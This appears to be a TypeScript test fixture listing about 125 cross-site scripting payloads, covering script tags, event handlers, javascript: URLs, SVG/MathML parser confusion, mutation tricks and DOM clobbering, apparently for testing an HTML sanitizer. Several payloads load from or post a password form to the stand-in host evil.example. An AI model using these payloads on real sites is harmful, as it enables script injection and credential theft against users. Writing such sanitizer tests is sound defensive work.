// Each calls alert() if it runs, or requests http://evil.example if it loads something.
const js = 'alert(1)'
const evil = 'http://evil.example'
const tab = '\t'

const scripts = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script/src="data:text/javascript,${js}"></script>`,
  `<script type="module">${js}</script>`,
  `<script>${js}//`,
  `<<script>${js};//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<template><script>${js}</script></template><template shadowrootmode="open"><img src=x onerror=${js}></template>`,
  `<xml><script>${js}</script></xml>`,
]

const handlers = [
  `<img src=x onerror=${js}>`,
  `<img src=x onerror="${js}" `,
  `<IMG """><SCRIPT>${js}</SCRIPT>">`,
  `<img/src=x/onerror=${js}>`,
  `<img src=x o\u006eerror=${js}>`,
  `<img src=x onerror\u000c=${js}>`,
  `<img src="x\`\`onerror=${js}">`,
  `<body onload=${js}>`,
  `<svg onload=${js}>`,
  `<svg/onload=${js}//`,
  `<p onclick=${js} onmouseover=${js} onfocus=${js} tabindex=0 autofocus>`,
  `<a href="/vip" onclick="${js}" onpointerenter="${js}">VIP</a>`,
  `<input autofocus onfocus=${js}>`,
  `<select autofocus onfocus=${js}><option>`,
  `<textarea autofocus onfocus=${js}></textarea>`,
  `<details open ontoggle=${js}><summary>x</summary></details>`,
  `<video src=x onerror=${js}></video>`,
  `<video><source onerror="${js}"></video>`,
  `<audio src=x onerror=${js}></audio>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<div style="animation: pulse 1s" onanimationstart="${js}">x</div>`,
  `<p style="transition: color 1s" ontransitionend="${js}">x</p>`,
  `<button popovertarget=p onbeforetoggle=${js}>x</button><p popover id=p ontoggle=${js}>x</p>`,
  `<p onscroll=${js} oncontentvisibilityautostatechange=${js} style="display:block;content-visibility:auto">x</p>`,
  `<p hidden="until-found" onbeforematch=${js}>x</p>`,
]

const addresses = [
  `<a href="javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href=" javascript:${js}">x</a>`,
  `<a href="java${tab}script:${js}">x</a>`,
  `<a href="java&#10;script:${js}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js}">x</a>`,
  `<a href="javascript&colon;${js}">x</a>`,
  `<a href="\u0001javascript:${js}">x</a>`,
  `<a href="javascript://%0a${js}">x</a>`,
  `<a href="data:text/html,<script>${js}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="blob:${evil}/1">x</a>`,
  `<a href="steam://run/730//+exec evil">x</a>`,
  `<a href="https://warmup.example@evil.example/">x</a>`,
  `<a href="/vip" target="_self" ping="${evil}/ping" download>VIP</a>`,
  `<a href="${evil}" rel="opener" target="_top">x</a>`,
  `<a xlink:href="javascript:${js}">x</a>`,
  `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${js} /><text y=20>x</text></a></svg>`,
  `<math href="javascript:${js}">x</math>`,
  `<map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=${evil}/m.png>`,
]

const foreign = [
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:text/javascript,${js}" /></svg>`,
  `<svg><style><img src=x onerror=${js}></style></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${js}'/></svg>#x"></svg>`,
  `<svg><image href="${evil}/i.png"></svg>`,
  `<svg><set attributeName=onmouseover to=${js}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  `<svg><title><style><img src=x onerror=${js}></style></title></svg>`,
  `<svg><desc><noembed></desc><img src=x onerror=${js}></noembed></svg>`,
]

const mutations = [
  `<style><style/><img src=x onerror=${js}>`,
  `<noembed><img title="</noembed><img src=x onerror=${js}>">`,
  `<noframes><p id="</noframes><img src=x onerror=${js}>">`,
  `<xmp><p title="</xmp><svg/onload=${js}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${js}>">`,
  `<title><p title="</title><img src=x onerror=${js}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${js}>">`,
  `<plaintext><img src=x onerror=${js}>`,
  `<!--><img src=x onerror=${js}>-->`,
  `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
  `<?xml-stylesheet href="javascript:${js}"?>`,
  `<select><iframe></select><img src=x onerror=${js}>`,
  `<table><td><svg><desc><table background="javascript:${js}">`,
  `${'<b>'.repeat(2_000)}<img src=x onerror=${js}>`,
  `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${js}></style>`,
]

const frames = [
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  `<iframe src="${evil}"></iframe>`,
  `<object data="data:text/html,<script>parent.${js}</script>"></object>`,
  `<embed src="javascript:${js}">`,
  `<applet code="evil"></applet>`,
  `<frameset onload=${js}><frame src="javascript:${js}"></frameset>`,
  `<portal src="${evil}" onload=${js}></portal>`,
  `<fencedframe></fencedframe>`,
]

const leaks = [
  `<img src="${evil}/pixel.gif">`,
  `<img srcset="${evil}/pixel.gif 1x">`,
  `<picture><source srcset="${evil}/p.webp"><img></picture>`,
  `<p style="background:url(${evil}/css)">x</p>`,
  `<style>@import url(${evil}/x.css); body { display: none }</style>`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<link rel=prefetch href="${evil}/x">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<meta http-equiv=refresh content="0;javascript:${js}">`,
  `<base href="${evil}/">`,
  `<table background="${evil}/t.gif"><tr><td background="${evil}/d.gif">x</td></tr></table>`,
  `<video poster="${evil}/poster.png"></video>`,
  `<audio src="${evil}/a.mp3" autoplay></audio>`,
  `<track src="${evil}/t.vtt">`,
  `<input type=image src="${evil}/i.png">`,
  `<body background="${evil}/b.png">`,
]

const forms = [
  `<form action="${evil}"><input name=password><button>Log in</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
  `<input type=submit formaction="javascript:${js}" value=x>`,
  `<isindex action="javascript:${js}" type=submit value=x>`,
  `<dialog open><form method=dialog><button autofocus>x</button></form></dialog>`,
]

/** Names that the page looks up. */
const clobbering = [
  `<a id=root></a><a id=root name=dataset>x</a>`,
  `<form id=attributes><input name=attributes></form>`,
  `<form name=body><input name=innerHTML></form>`,
  `<img name=getElementById><img name=cookie>`,
  `<p id=question-rules class="faq-row" data-question=rules data-open>x</p>`,
  `<slot name=x></slot><p slot=x is=evil-element part=x>x</p>`,
]

/** Answers that try to run a script, contact another site, leave the page, or imitate a part of it. */
export const hostileAnswers: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreign,
  ...mutations,
  ...frames,
  ...leaks,
  ...forms,
  ...clobbering,
]
